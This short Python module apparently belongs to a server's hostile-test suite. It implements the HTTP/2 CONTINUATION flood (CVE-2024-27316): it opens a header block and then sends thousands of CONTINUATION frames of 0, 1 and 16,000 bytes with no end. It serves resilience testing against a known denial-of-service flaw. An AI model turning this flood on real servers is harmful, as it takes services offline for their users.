"""Headers go on and on in CONTINUATION frames, of nothing or of a byte (CVE-2024-27316)."""

from __future__ import annotations

from functools import partial

from counterflow.wire.http2 import codes
from counterflow.wire.http2.outgoing import frame
from counterflow_wire import gateway
from tests.hostile.attack import Attack
from tests.hostile.raw import RawConnection
from tests.hostile.target import Target

AT_ONCE = 1_000
PARTS = (b"", b"\0", b"\0" * 16_000)


async def run(target: Target, dose: int) -> None:
    """Send `dose` of each size."""
    for part in PARTS:
        more = frame(codes.CONTINUATION, 0, 1, part)
        await target.flood(dose, min(AT_ONCE, dose), partial(_part, more))


def _part(more: bytes, client: RawConnection, _number: int) -> bytes:
    if client.is_used:
        return more
    client.is_used = True
    return client.head(1, gateway.METHODS["Topology"].path, flags=0) + more


ATTACK = Attack("CONTINUATION frames of 0, 1 and 16,000 bytes without end", run, seen=5_000, small=0.2)
